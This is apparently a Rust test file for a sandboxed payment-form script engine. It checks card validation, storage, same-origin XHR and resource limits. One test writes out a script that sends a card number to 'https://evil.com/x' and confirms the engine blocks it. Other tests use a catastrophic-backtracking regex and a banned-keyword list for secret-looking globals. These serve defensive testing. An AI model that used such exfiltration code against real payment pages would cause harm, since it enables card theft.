use fidelius_core::cryptowire::Origin;
use fidelius_core::script::{
    bridge_receive, builtin_global_names, eval_call, parse_script, Effect, HostEnvironment, Program, ScriptError,
    Value, XhrRequest, XhrResponse, XhrTransport,
};
use indexmap::IndexMap;

const VALIDATOR: &str = include_str!("../fixtures/scripts/validator.js");

fn origin() -> Origin {
    Origin::new("pay.site.com", 443).unwrap()
}

fn env_with_card<'a>(card: &str) -> HostEnvironment<'a> {
    let mut env = HostEnvironment::new(origin());
    let inputs: IndexMap<String, String> = [("holder", "Ada Lovelace"), ("card", card), ("exp", "12/29"), ("cvv", "123")]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    env.forms.insert("payment".into(), inputs);
    env
}

#[derive(Default)]
struct RecordingServer {
    requests: Vec<XhrRequest>,
}

impl XhrTransport for RecordingServer {
    fn send(&mut self, req: &XhrRequest) -> Result<XhrResponse, ScriptError> {
        self.requests.push(req.clone());
        Ok(XhrResponse { status: 200, body: "{\"ok\":true}".into() })
    }
}

struct DroppingNetwork;

impl XhrTransport for DroppingNetwork {
    fn send(&mut self, _: &XhrRequest) -> Result<XhrResponse, ScriptError> {
        Err(ScriptError::NetworkDropped)
    }
}

fn validator() -> Program {
    parse_script(VALIDATOR).unwrap()
}

#[test]
fn whitespace_check_listing() {
    let prog = validator();
    assert!(prog.has_function("cardNumberHasWhiteSpaces"));
    let mut env = env_with_card("4111 1111");
    assert_eq!(eval_call(&prog, &mut env, "cardNumberHasWhiteSpaces", vec![]).unwrap(), Value::Bool(true));
    let mut env = env_with_card("41111111");
    assert_eq!(eval_call(&prog, &mut env, "cardNumberHasWhiteSpaces", vec![]).unwrap(), Value::Bool(false));
}

#[test]
fn whitespace_check_agrees_with_class_definition_on_every_byte() {
    let prog = validator();
    for b in 0u8..=255 {
        let mut env = env_with_card(&char::from(b).to_string());
        let expected = matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0c | 0x0b);
        let got = eval_call(&prog, &mut env, "cardNumberHasWhiteSpaces", vec![]).unwrap();
        assert_eq!(got, Value::Bool(expected), "byte {b:#04x}");
    }
}

#[test]
fn web_storage_listing() {
    let prog = validator();
    let mut env = HostEnvironment::new(origin());
    let d = Value::object([
        ("holder".to_string(), Value::str("A")),
        ("card".to_string(), Value::str("B")),
        ("expiry".to_string(), Value::str("C")),
        ("cvv".to_string(), Value::str("D")),
    ]);
    eval_call(&prog, &mut env, "storeCreditCardData", vec![d]).unwrap();
    let keys: Vec<_> = env.local_storage.keys().cloned().collect();
    assert_eq!(keys, ["cc", "cvv", "exp", "holder"]);
    assert_eq!(env.local_storage["cc"], "B");
    assert_eq!(env.local_storage["exp"], "C");
    assert!(env.storage_dirty());
}

#[test]
fn xhr_listing_sends_all_card_fields() {
    let prog = validator();
    let mut server = RecordingServer::default();
    let mut env = env_with_card("4111111111111111").with_transport(&mut server);
    let ok = eval_call(&prog, &mut env, "doPay", vec![Value::Undefined]).unwrap();
    assert_eq!(ok, Value::Bool(true));
    assert_eq!(env.local_storage["cc"], "4111111111111111");
    drop(env);
    assert_eq!(server.requests.len(), 1);
    let req = &server.requests[0];
    assert_eq!((req.method.as_str(), req.path.as_str()), ("POST", "/submit_data"));
    assert_eq!(req.headers, [("Content-Type".to_string(), "application/sec_json; charset=UTF-8".to_string())]);
    let body: serde_json::Value = serde_json::from_str(&req.body).unwrap();
    assert_eq!(
        body,
        serde_json::json!({"holder": "Ada Lovelace", "card": "4111111111111111", "exp": "12/29", "cvv": "123"})
    );
}

#[test]
fn invalid_payment_is_not_sent() {
    let prog = validator();
    let mut server = RecordingServer::default();
    let mut env = env_with_card("4111 1111 1111 1111").with_transport(&mut server);
    assert_eq!(eval_call(&prog, &mut env, "doPay", vec![]).unwrap(), Value::Bool(false));
    assert!(env.local_storage.is_empty());
    drop(env);
    assert!(server.requests.is_empty());
}

#[test]
fn dropped_network_surfaces_as_error() {
    let prog = validator();
    let mut net = DroppingNetwork;
    let mut env = env_with_card("4111111111111111").with_transport(&mut net);
    assert_eq!(eval_call(&prog, &mut env, "doPay", vec![]), Err(ScriptError::NetworkDropped));
}

#[test]
fn cross_origin_xhr_is_refused() {
    let prog = parse_script(
        "function leak() { var x = new SecureXMLHttpRequest(); x.open('POST', 'https://evil.com/x', false); x.send(forms.payment.card); }",
    )
    .unwrap();
    let mut server = RecordingServer::default();
    let mut env = env_with_card("4111111111111111").with_transport(&mut server);
    let err = eval_call(&prog, &mut env, "leak", vec![]).unwrap_err();
    assert!(matches!(err, ScriptError::CrossOriginXhr { .. }), "{err:?}");
    drop(env);
    assert!(server.requests.is_empty());
}

#[test]
fn async_xhr_is_refused() {
    let prog = parse_script("function f() { var x = new SecureXMLHttpRequest(); x.open('GET', '/a', true); }").unwrap();
    let mut env = env_with_card("1");
    assert!(matches!(eval_call(&prog, &mut env, "f", vec![]), Err(ScriptError::Runtime(_))));
}

#[test]
fn message_bridge() {
    let prog = validator();
    let mut env = env_with_card("4111111111111111");
    let handled = bridge_receive(&prog, &mut env, &serde_json::json!({"cmd": "validate"})).unwrap();
    assert_eq!(handled, Value::Bool(true));
    assert_eq!(env.outbox, [serde_json::json!({"valid": true})]);
}

#[test]
fn calls_are_deterministic() {
    let prog = validator();
    let run = || {
        let mut server = RecordingServer::default();
        let mut env = env_with_card("4111111111111111").with_transport(&mut server);
        let v = eval_call(&prog, &mut env, "doPay", vec![]).unwrap();
        let effects = env.effects.clone();
        (v, effects, env.local_storage.clone())
    };
    let (a, b) = (run(), run());
    assert_eq!(a, b);
    assert!(matches!(a.1[0], Effect::Xhr(_)));
}

#[test]
fn globals_expose_no_secrets() {
    let names = builtin_global_names();
    for n in &names {
        let lower = n.to_ascii_lowercase();
        for banned in ["key", "counter", "seal", "secret", "session", "nonce"] {
            assert!(!lower.contains(banned), "global {n} looks like key material");
        }
    }
    // Only the documented bindings exist.
    let prog = parse_script("function probe(n) { return typeof eval; }").unwrap();
    let mut env = HostEnvironment::new(origin());
    assert!(matches!(eval_call(&prog, &mut env, "probe", vec![]), Err(ScriptError::Runtime(_))));
}

#[test]
fn step_budget_bounds_runaway_regex() {
    let prog = parse_script("function f(s) { return /^(a|a)*b$/.test(s); }").unwrap();
    let mut env = HostEnvironment::new(origin());
    env.step_budget = 50_000;
    let r = eval_call(&prog, &mut env, "f", vec![Value::str("a".repeat(64))]);
    assert_eq!(r, Err(ScriptError::StepBudgetExceeded));
}
